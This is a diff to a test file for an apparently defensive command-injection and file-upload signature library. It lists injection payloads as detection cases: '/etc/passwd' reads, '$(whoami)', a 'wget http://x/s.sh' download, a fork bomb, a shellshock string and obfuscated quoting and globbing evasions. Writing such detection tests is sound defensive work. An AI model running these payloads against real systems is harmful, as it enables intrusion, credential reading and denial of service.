@@ -18,12 +18,12 @@ const CASES: Record<string, { attack: string[]; benign: string[]; name?: string 
       '; cat /etc/passwd', 'x | id', '$(whoami)', '`uname -a`', '&& wget http://x/s.sh', 'a;/bin/sh -c id', 'cmd.exe /c dir',
       // command lines without a separator, wrapped commands, quoting and empty-expansion evasions
       'bash -c "echo test"', 'time sh -c whoami', 'nohup ifconfig', 'flock -u / whoami', 'ansible-vault decrypt secret', 'cscli alerts list',
-      "'wh'oami", 'c$@at /et$@c/pas$@swd', 'pi$()ng 127.0.0.1', 'cu$v\\r\\l google.com', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b',
+      ";'wh'oami", 'c$@at /et$@c/pas$@swd', 'pi$()ng 127.0.0.1', 'cu$v\\r\\l google.com', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b',
       // globbing, brace expansion, function definitions, aliases
       'cat /etc/pa[s]swd', '/???/?s', 'cat+/et*/*wd', '{,ip,a}', '{l,-lh}s', ':(){ :|:& };:', '() { :; }; echo', 'alias a=b', 'alias ls-al=\'ls -al\'',
       // Windows batch conditionals
       'IF EXIST C:\\pagefile.sys CMD', 'if /i "%var%"=="hello" (ECHO found)', 'IF %ERRORLEVEL% NEQ 0 echo test', 'Invoke-WebRequest http://example.com/a.ps1',
-      'code=cat /etc/x', '<?xml version="1.0"?><root><a probe=";cat /etc/passwd"></a></root>', '1;.shell whoami', 'cd /;cd etc;column passwd', 'https://x.example/?args=env --version',
+      'code=cat /etc/x', '<?xml version="1.0"?><root><a probe=";cat /etc/passwd"></a></root>', '1;.shell whoami', ';\\n.databases', '1;.\\"shell whoami', 'cd /;cd etc;column passwd', 'https://x.example/?args=env --version',
       'FOR /F "tokens=1" %% IN (a.txt) DO ECHO %%', 'if "A A" == "A A" echo same', ';at 2:00 "echo test"', "'c'url localhost",
     ],
     benign: [
@@ -114,6 +114,14 @@ describe('signature libraries', () => {
     for (const f of ['a.php', 'fda.phtml......', 'test.phar .png', 'photo. php', '/tmp/sess_abc123def456ghi789jkl', 'wp-config.php']) expect(hit('code', f, 'x-filename'), f).not.toBeNull();
     expect(hit('code', 'a.php', 'q')).toBeNull();
     expect(hit('code', 'abc.botox.jpg', 'x-filename')).toBeNull();
+  });
+
+  it('cmd takes a distinctive command alone only as the value of a named field, never as a path segment', () => {
+    expect(hit('cmd', 'visudo', 'code')).not.toBeNull();
+    expect(hit('cmd', 'code=visudo', null)).not.toBeNull();
+    expect(hit('cmd', 'iptables', null)).toBeNull();
+    expect(hit('cmd', '/blog/tags/iptables', null)).toBeNull();
+    expect(hit('cmd', 'iptables -L', null)).not.toBeNull();
   });
 
   it('rfi reads URLs in path- and include-named parameters', () => {
